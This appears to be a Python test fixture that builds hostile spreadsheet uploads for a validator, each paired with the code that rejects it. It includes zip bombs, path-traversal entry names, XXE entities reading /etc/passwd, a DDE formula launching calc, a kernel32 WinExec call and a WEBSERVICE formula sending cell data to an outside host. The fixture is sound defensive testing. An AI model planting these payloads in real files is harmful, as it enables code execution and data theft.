"""Files of other kinds, packages that lie, and XML that hurts: name → (bytes, the code that refuses it)."""

from __future__ import annotations

import gzip
import io
import tarfile
import warnings
import zipfile
from collections.abc import Callable

from tests.services.spreadsheets.samples import SHEET_PARTS, changed, packed, parts_of

Hostile = dict[str, tuple[bytes, str]]

_ACTIVITY = SHEET_PARTS["活動量"]
_BOOK = "xl/workbook.xml"
_RELATIONS = "xl/_rels/workbook.xml.rels"
_TYPES = "[Content_Types].xml"
_LAST = "XFD1048576"


def other_kinds(good: bytes) -> Hostile:
    """What people take for the form, and files that are two kinds at once."""
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("form.xlsx"))
    table = "<html><table><tr><td>電気</td><td>100</td></tr></table></html>"
    xml_2003 = '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'
    parts = parts_of(good)
    template = parts[_TYPES].replace(b"spreadsheetml.sheet.main", b"spreadsheetml.template.main")
    add_in = parts[_TYPES].replace(
        b"vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"vnd.ms-excel.addin.macroEnabled.main+xml",
    )
    return {
        "tsv in utf-16": ("排出源\t4月\r\n電気\t100\r\n".encode("utf-16"), "not_xlsx"),
        "csv in shift-jis": ("排出源,4月\r\n電気,100\r\n".encode("cp932"), "not_xlsx"),
        "html table named xlsx": (table.encode(), "not_xlsx"),
        "spreadsheet xml of 2003": (xml_2003.encode(), "not_xlsx"),
        "rich text": (b"{\\rtf1 100}", "not_xlsx"),
        "json": (b'{"emissions": 1}', "not_xlsx"),
        "jpeg": (b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 64, "not_xlsx"),
        "gif": (b"GIF89a" + b"\0" * 64, "not_xlsx"),
        "gzip of the form": (gzip.compress(good), "not_xlsx"),
        "tar of the form": (tar.getvalue(), "not_xlsx"),
        "7z": (b"7z\xbc\xaf\x27\x1c" + b"\0" * 64, "not_xlsx"),
        "program": (b"\x7fELF\x02\x01\x01" + b"\0" * 64, "not_xlsx"),
        "raw biff": (b"\x09\x08\x10\0\0\x06\x05\0" + b"\0" * 64, "not_xlsx"),
        "one byte": (b"P", "not_xlsx"),
        "signature only": (b"PK\x03\x04", "package_broken"),
        "empty zip": (b"PK\x05\x06" + b"\0" * 18, "package_broken"),
        "zip that spans disks": (b"PK\x07\x08" + good, "package_broken"),
        "pdf with the form behind": (b"%PDF-1.7\n" + good, "not_xlsx"),
        "gif with the form behind": (b"GIF89a" + good, "not_xlsx"),
        "script with the form behind": (b"#!/bin/sh\nexit\n" + good, "not_xlsx"),
        "the form with a page behind": (good + b"<html><script>alert(1)</script>", "package_broken"),
        "pptx": (packed({_TYPES: b"<a/>", "ppt/presentation.xml": b"<a/>"}), "not_xlsx"),
        "numbers": (packed({"Index/Document.iwa": b"x", "Metadata/Properties.plist": b"x"}), "not_xlsx"),
        "the form inside a zip": (packed({"form.xlsx": good}), "not_xlsx"),
        "template": (packed({**parts, _TYPES: template}), "not_xlsx"),
        "add-in": (packed({**parts, _TYPES: add_in}), "macros"),
    }


def _zip_with(parts: dict[str, bytes], **how: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", **how) as package:  # type: ignore[arg-type]
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def _twice(parts: dict[str, bytes], name: str) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as package:
        warnings.simplefilter("ignore")
        for each, content in [*parts.items(), (name, parts[name])]:
            package.writestr(each, content)
    return out.getvalue()


def _bytes_at(data: bytes, mark: bytes, offset: int, new: bytes, *, last: bool = True) -> bytes:
    at = (data.rfind(mark) if last else data.find(mark)) + offset
    return data[:at] + new + data[at + len(new) :]


def packages(good: bytes) -> Hostile:
    """ZIP directories that lie, names that lead elsewhere, parts that are not there."""
    parts = parts_of(good)
    end, entry, local = b"PK\x05\x06", b"PK\x01\x02", b"PK\x03\x04"
    without = {
        f"without {name}": (packed({k: v for k, v in parts.items() if k != name}), code)
        for name, code in (
            (_TYPES, "not_xlsx"),
            (_BOOK, "not_xlsx"),
            ("xl/_rels/workbook.xml.rels", "package_broken"),
        )
    }
    nested = packed({"b": packed({"c": b"\0" * 15_000_000})})
    return {
        **without,
        "zip64 sign in the end": (_bytes_at(good, end, 8, b"\xff\xff\xff\xff"), "package_broken"),
        "zip64 offset in the end": (_bytes_at(good, end, 16, b"\xff\xff\xff\xff"), "package_broken"),
        "fewer entries than there are": (_bytes_at(good, end, 8, b"\x01\0\x01\0"), "package_broken"),
        "more entries than there are": (_bytes_at(good, end, 8, b"\x63\0\x63\0"), "package_broken"),
        "directory elsewhere": (_bytes_at(good, end, 16, b"\0\0\0\0"), "package_broken"),
        "second disk": (_bytes_at(good, end, 4, b"\x01\0"), "package_broken"),
        "comment after the end": (_bytes_at(good, end, 20, b"\x04\0") + b"note", "package_broken"),
        "a second end": (good + end + b"\0" * 18, "package_broken"),
        "no end": (good[: good.rfind(end)], "package_broken"),
        "half of the last byte": (good[:-1], "package_broken"),
        "first kilobyte": (good[:1024], "package_broken"),
        "encrypted part": (_bytes_at(good, entry, 8, b"\x01\0"), "encrypted"),
        "unknown compression": (_bytes_at(good, entry, 10, b"\x63\0"), "package_broken"),
        "bzip2": (_zip_with(parts, compression=zipfile.ZIP_BZIP2), "package_broken"),
        "lzma": (_zip_with(parts, compression=zipfile.ZIP_LZMA), "package_broken"),
        "wrong checksum": (_bytes_at(good, entry, 16, b"\1\2\3\4"), "package_broken"),
        "claims four gigabytes": (_bytes_at(good, entry, 24, b"\xfe\xff\xff\xff"), "package_bomb"),
        "claims to be packed larger": (_bytes_at(good, entry, 20, b"\xfe\xff\xff\x0f"), "package_bomb"),
        "part before the file": (_bytes_at(good, entry, 42, b"\xf0\xff\xff\xff"), "package_bomb"),
        "other name in front": (_bytes_at(good, local, 30, b"x", last=False), "package_broken"),
        "deflate of noise": (_bytes_at(good, local, 60, b"\xff" * 40, last=False), "package_broken"),
        "exactly the same name": (_twice(parts, _ACTIVITY), "package_names"),
        "backslashes": (packed({**parts, "xl\\evil.xml": b"<a/>"}), "package_names"),
        "drive letter": (packed({**parts, "C:/evil.xml": b"<a/>"}), "package_names"),
        "name with a bell": (packed({**parts, "xl/\x07.xml": b"<a/>"}), "package_names"),
        "endless name": (packed({**parts, "x" * 300 + ".xml": b"<a/>"}), "package_names"),
        "name that reads backwards": (packed({**parts, "xl/\u202eslx.xml": b"<a/>"}), "package_names"),
        "xlm macro sheet": (packed({**parts, "xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
        "dialog sheet": (packed({**parts, "xl/dialogsheets/sheet1.xml": b"<a/>"}), "macros"),
        "macro data": (packed({**parts, "xl/vbaData.xml": b"<a/>"}), "macros"),
        "form control": (packed({**parts, "xl/ctrlProps/ctrlProp1.xml": b"<a/>"}), "active_content"),
        "query table": (packed({**parts, "xl/queryTables/q1.xml": b"<a/>"}), "active_content"),
        "ribbon of its own": (packed({**parts, "customUI/customUI.xml": b"<a/>"}), "active_content"),
        "web extension": (packed({**parts, "xl/webextensions/webextension1.xml": b"<a/>"}), "active_content"),
        "nested bomb": (
            packed({**parts, "xl/media/a.zip": nested, "xl/media/b": b"\0" * 3_000_000}),
            "package_bomb",
        ),
    }


def _many(element: str) -> str:
    """70,000 of ``element``, no two alike, so that they do not pack too well."""
    return "".join(element.format(n * n * 7919 % 10_000_019) for n in range(70_000))


def _after_declaration(extra: str) -> Callable[[str], str]:
    return lambda xml: xml.replace("?>", f"?>{extra}", 1) if xml.startswith("<?xml") else extra + xml


def documents(good: bytes) -> Hostile:
    """XML that declares, repeats, nests or encodes what it must not."""
    parts = parts_of(good)
    sheet = parts[_ACTIVITY].decode()
    start = sheet.index("<worksheet")
    bare = sheet[start:]

    def declared(encoding: str, codec: str) -> bytes:
        text = f'<?xml version="1.0" encoding="{encoding}"?>{bare}'
        return packed({**parts, _ACTIVITY: text.encode(codec, "replace")})

    def doctype(inside: str, part: str = _ACTIVITY) -> tuple[bytes, str]:
        return changed(good, part, _after_declaration(f"<!DOCTYPE x {inside}>")), "xml_entities"

    def put(extra: str, before: str = "</sheetData>") -> bytes:
        return changed(good, _ACTIVITY, lambda xml: xml.replace(before, extra + before, 1))

    def linked(kind: str, target: str) -> bytes:
        base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
        extra = f'<Relationship Id="rX" Type="{base}{kind}" Target="{target}" TargetMode="External"/>'
        return changed(
            good, _RELATIONS, lambda xml: xml.replace("</Relationships>", extra + "</Relationships>")
        )

    def formula(text: str) -> bytes:
        return put(f'<row r="99"><c r="A99"><f>{text}</f><v>1</v></c></row>')

    def before(end: str, extra: str, part: str = _BOOK) -> bytes:
        return changed(good, part, lambda xml: xml.replace(end, extra + end, 1))

    styles = "xl/styles.xml"
    columns = "<cols>" + _many('<col min="1" max="2" width="{}"/>') + "</cols>"
    endless = b"<sst><si><t>" + b"a" * 15_000_000 + b"</t></si></sst>"
    asks = '<dataValidation type="list" sqref="A99"><formula1>[1]S!A1</formula1></dataValidation>'
    return {
        "entity from a file": doctype('[<!ENTITY a SYSTEM "file:///etc/passwd">]'),
        "entity from the network": doctype('[<!ENTITY a SYSTEM "http://192.0.2.1/">]'),
        "parameter entity": doctype('[<!ENTITY % a SYSTEM "http://192.0.2.1/"> %a;]'),
        "external subset": doctype('SYSTEM "http://192.0.2.1/x.dtd"'),
        "entities in the relations": doctype('[<!ENTITY a "b">]', _RELATIONS),
        "entities in the content types": doctype('[<!ENTITY a "b">]', _TYPES),
        "entities in the properties": doctype('[<!ENTITY a "b">]', "docProps/core.xml"),
        "utf-16 without a mark": (declared("UTF-16BE", "utf-16-be"), "xml_encoding"),
        "utf-32": (declared("UTF-32", "utf-32"), "xml_encoding"),
        "shift-jis": (declared("Shift_JIS", "cp932"), "xml_encoding"),
        "latin-1": (
            packed({**parts, _ACTIVITY: f'<?xml version="1.0" encoding="ISO-8859-1"?>{bare}'.encode()}),
            "xml_encoding",
        ),
        "said to be utf-8 and is not": (
            packed({**parts, _ACTIVITY: sheet.encode("cp932", "replace")}),
            "package_broken",
        ),
        "zero byte": (packed({**parts, _ACTIVITY: sheet.encode() + b"\0"}), "xml_encoding"),
        "empty part": (packed({**parts, _ACTIVITY: b""}), "package_broken"),
        "two roots": (packed({**parts, _ACTIVITY: sheet.encode() + b"<worksheet/>"}), "package_broken"),
        "unbound prefix": (put("<x:row/>"), "package_broken"),
        "deep nesting in the styles": (
            before("</styleSheet>", "<a>" * 99 + "</a>" * 99, styles),
            "too_much_content",
        ),
        "attribute without end": (put(f'<row r="99" x="{"y" * 30_000}"/>'), "too_much_content"),
        "many styles": (
            before("</cellXfs>", _many('<xf numFmtId="{}"/>'), styles),
            "too_much_content",
        ),
        "many columns": (before("<sheetData", columns, _ACTIVITY), "too_much_content"),
        "shared string bomb": (
            packed({**parts, "xl/sharedStrings.xml": f"<sst>{_many('<si><t>{}</t></si>')}</sst>".encode()}),
            "too_much_content",
        ),
        "one endless shared string": (packed({**parts, "xl/sharedStrings.xml": endless}), "package_bomb"),
        "column beyond the form": (put('<row r="99"><c r="XFD99"/></row>'), "cell_out_of_range"),
        "row beyond the form": (put('<row r="1048576"><c><v>1</v></c></row>'), "cell_out_of_range"),
        "row in scientific notation": (put('<row r="1e6"><c><v>1</v></c></row>'), "package_broken"),
        "negative row": (put('<row r="-1"><c/></row>'), "package_broken"),
        "cells without end in a row": (put('<row r="99">' + "<c/>" * 300 + "</row>"), "cell_out_of_range"),
        "shared formula over everything": (
            put(f'<row r="99"><c r="A99"><f t="shared" ref="A1:{_LAST}" si="0">1</f><v>1</v></c></row>'),
            "cell_out_of_range",
        ),
        "array formula over everything": (
            put(f'<row r="99"><c r="A99"><f t="array" ref="A1:{_LAST}">1</f><v>1</v></c></row>'),
            "cell_out_of_range",
        ),
        "filter over everything": (
            put(f'<autoFilter ref="A1:{_LAST}"/>', "<pageMargins"),
            "cell_out_of_range",
        ),
        "area written backwards": (
            put("<mergeCells>" + '<mergeCell ref="GR1990:A100"/>' * 3 + "</mergeCells>", "<pageMargins"),
            "too_much_content",
        ),
        "picture from the network": (linked("image", "http://192.0.2.1/x.png"), "external_links"),
        "template from the network": (linked("attachedTemplate", "file://192.0.2.1/x"), "external_links"),
        "object from the network": (linked("oleObject", "http://192.0.2.1/x"), "external_links"),
        "dde in a cell": (formula("cmd|'/c calc'!A0"), "external_links"),
        "cell of another workbook": (formula("[1]Sheet1!A1"), "external_links"),
        "cell of a file by path": (formula("'C:\\x\\[a.xlsx]S'!A1"), "external_links"),
        "web service": (formula('WEBSERVICE("http://192.0.2.1/"&amp;A1)'), "external_links"),
        "real-time data": (formula('RTD("x",,"y")'), "external_links"),
        "picture function": (formula('_xlfn.IMAGE("http://192.0.2.1/x.png")'), "external_links"),
        "call into a library": (formula('CALL("kernel32","WinExec","JCJ","calc",0)'), "external_links"),
        "name of another workbook": (
            before("</definedNames>", '<definedName name="x">[1]S!A1</definedName>'),
            "external_links",
        ),
        "validation that asks elsewhere": (
            put(f"<dataValidations>{asks}</dataValidations>", "<pageMargins"),
            "external_links",
        ),
        "style that is no number": (
            changed(good, _ACTIVITY, lambda xml: xml.replace('s="10"', 's="ten"')),
            "package_broken",
        ),
        "text index below zero": (
            put('<row r="99"><c r="A99" t="s"><v>-9999999</v></c></row>'),
            "package_broken",
        ),
        "number that is none": (put('<row r="99"><c r="A99"><v>twelve</v></c></row>'), "package_broken"),
        "sheets in a circle": (
            changed(good, _RELATIONS, lambda xml: xml.replace("worksheets/sheet3.xml", "workbook.xml")),
            "layout_changed",
        ),
        "relation upwards": (
            changed(
                good, _RELATIONS, lambda xml: xml.replace("worksheets/sheet3.xml", "../../../etc/passwd")
            ),
            "sheet_missing",
        ),
        "workbook of another kind": (packed({**parts, _BOOK: b"<html/>"}), "sheet_missing"),
    }
